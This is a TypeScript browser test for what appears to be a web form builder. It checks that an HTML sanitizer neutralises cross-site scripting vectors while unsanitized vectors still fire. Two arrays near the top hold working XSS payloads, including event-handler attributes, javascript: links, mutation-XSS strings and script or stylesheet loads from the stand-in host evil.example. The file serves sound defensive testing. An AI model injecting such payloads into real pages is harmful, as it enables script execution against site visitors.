/**
 * The vectors of the cross-site scripting cheat sheets in a real browser, sanitized as for authors without
 * `unfiltered_html`: as the visitor's page of a form, and as the HTML of an element. The test uses everything in them
 * like a visitor, without the page's content security policy, which would hide vulnerabilities.
 */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import type { Browser, Page } from "playwright-core";
import { beyond, cleaned, dangersIn, VECTORS, type Cleaned } from "../shim/cross-site-scripting.ts";
import { startSite, type Site } from "../shim/site.ts";
import { launchChromium, noChromium } from "./chromium.ts";

/** One example of each way in which vectors run a script or load one from elsewhere. */
const RUNNING_IN_A_PAGE = [
  "<script>alert(1)</script>",
  "<script/src=//evil.example/x>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><set onbegin=alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  "<details open ontoggle=alert(1)>x</details>",
  "<div onmouseover=alert(1)>x</div>",
  "<button onclick=alert(1)>x</button>",
  "<label onauxclick=alert(1)>x</label>",
  "<a href=javascript:alert(1)>x</a>",
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  "<style>@import'//evil.example/x.css';</style>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
];

/** Vectors, some of which have no effect in a page, because they are inside the form's markup. */
const RUNNING_IN_AN_ELEMENT = [
  "<img src=x onerror=alert(1)>",
  "<form onsubmit=alert(1)><input type=submit></form>",
  "<form onformdata=alert(1)><button>x</form>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<form><input type=submit formaction=javascript:alert(1)></form>",
  "<a href=javascript:alert(1)>x</a>",
  "<style>@import'//evil.example/x.css';</style>",
];

/** A vector's link to another site, which visitors may follow. */
const LINK = "https://ok.example/";

/**
 * In the browser: dispatches every event for which an element may have a handler, then focuses and clicks the element.
 * Links and forms cannot leave the page; returns those that go to other sites. A `javascript:` address is not a
 * navigation, so it is not blocked.
 */
async function useAll(): Promise<string[]> {
  const left: string[] = [];
  window.navigation.addEventListener("navigate", (event) => {
    event.preventDefault();
    if (new URL(event.destination.url).origin !== location.origin) left.push(event.destination.url);
  });
  for (const form of document.forms) form.noValidate = true;
  for (const element of document.body.querySelectorAll<HTMLElement>("*")) {
    for (const name in element) {
      if (name.startsWith("on")) element.dispatchEvent(new Event(name.slice(2), { bubbles: true, cancelable: true }));
    }
    element.focus?.();
    element.click?.();
  }
  const loading = [...document.images].filter((image) => !image.complete);
  await Promise.all(
    loading.map(
      (image) =>
        new Promise((resolve) => {
          for (const type of ["load", "error"]) image.addEventListener(type, resolve);
        }),
    ),
  );
  // A navigation to a `javascript:` address is a separate task.
  await new Promise((resolve) => setTimeout(resolve));
  return left;
}

const NOTHING = { ran: [], dangers: [], frames: 1 };

describe("vectors of cross-site scripting in Chromium", { skip: noChromium }, () => {
  let site: Site;
  let browser: Browser;
  let page: Page;
  /** Dialogs of the page since it was opened, and requests to other sites. */
  let ran: string[] = [];
  /** Dangers that every form's page has. */
  let baseline: string[];
  let forms: [vector: string, form: Cleaned][];

  async function open(path: string): Promise<void> {
    ran = [];
    await page.goto(site.url + path);
  }

  /** Uses everything in the open page and returns the effects. */
  async function afterUse(): Promise<{ ran: string[]; dangers: string[]; frames: number }> {
    const dangers = await page.evaluate(`(${dangersIn.toString()})(document)`);
    assert.ok(Array.isArray(dangers));
    const left = await page.evaluate(useAll);
    return {
      ran: [...ran, ...left.filter((address) => address !== LINK)],
      dangers: beyond(baseline, dangers.map(String)),
      frames: page.frames().length,
    };
  }

  /** Like {@link afterUse}, but waits for an effect, which the browser may report later than the end of the use. */
  async function afterEffect(): ReturnType<typeof afterUse> {
    const found = await afterUse();
    if (found.ran.length > 0) return found;
    for (let waited = 0; waited < 10_000 && ran.length === 0; waited += 20) await page.waitForTimeout(20);
    return { ...found, ran };
  }

  /** Gives an element of the open page, outside of its form, this HTML. */
  const write = (html: string) =>
    page.evaluate((text) => {
      const element = document.createElement("div");
      element.innerHTML = text;
      document.body.replaceChildren(element);
    }, html);

  /** Path of a form whose author has `unfiltered_html`. */
  async function uncleaned(markup: string): Promise<string> {
    const { status, body } = await site.api("POST", "/forms", { title: "x", markup });
    assert.equal(status, 201, JSON.stringify(body));
    return `/forms/${(body as { slug: string }).slug}`;
  }

  before(async () => {
    site = await startSite();
    browser = await launchChromium();
    page = await (await browser.newContext({ bypassCSP: true })).newPage();
    page.on("dialog", (dialog) => {
      // The script asks for confirmation before an answer would be lost.
      if (dialog.type() === "beforeunload") return void dialog.accept();
      ran.push(dialog.type());
      void dialog.dismiss();
    });
    await page.route("**", (route) => {
      const request = route.request();
      const { origin, pathname } = new URL(request.url());
      if (origin !== site.url) ran.push(`${request.resourceType()} ${request.url()}`);
      else if (request.method() === "GET" && pathname.startsWith("/forms/")) return route.continue();
      return route.fulfill({ status: 204 });
    });
    await open(await uncleaned("<input name=a>"));
    baseline = (await page.evaluate(`(${dangersIn.toString()})(document)`)) as string[];
    forms = [];
    for (const vector of VECTORS) forms.push([vector, await cleaned(site, vector)]);
  });

  after(async () => {
    await browser?.close();
    await site?.close();
  });
  it("run if they are not sanitized", async () => {
    for (const vector of RUNNING_IN_A_PAGE) {
      await open(await uncleaned(vector));
      assert.notDeepEqual((await afterEffect()).ran, [], vector);
    }
    for (const vector of RUNNING_IN_AN_ELEMENT) {
      await open("/forms/x");
      await write(vector);
      const found = await afterEffect();
      assert.notDeepEqual(found.ran, [], vector);
      assert.notDeepEqual(found.dangers, [], vector);
    }
  });

  it("do not run in the page of their form", async () => {
    const seen = new Set<string>();
    for (const [vector, { path, markup }] of forms) {
      if (path === null || seen.has(markup)) continue;
      seen.add(markup);
      await open(path);
      assert.deepEqual(await afterUse(), NOTHING, `${vector}\nbecame ${markup}`);
    }
  });

  it("do not run as the HTML of an element", async () => {
    await open("/forms/x");
    for (const [vector, { markup }] of forms) {
      await write(markup);
      assert.deepEqual(await afterUse(), NOTHING, `${vector}\nbecame ${markup}`);
    }
    // The wait is longer than a vector's script needs.
    await page.waitForTimeout(200);
    assert.deepEqual(await afterUse(), NOTHING);
  });

  it("are rarely rejected", () => {
    assert.ok(VECTORS.length >= 150);
    const refused = forms.filter(([, { path }]) => path === null);
    assert.ok(refused.length <= VECTORS.length / 20, `${refused.length} of ${VECTORS.length}`);
  });
});
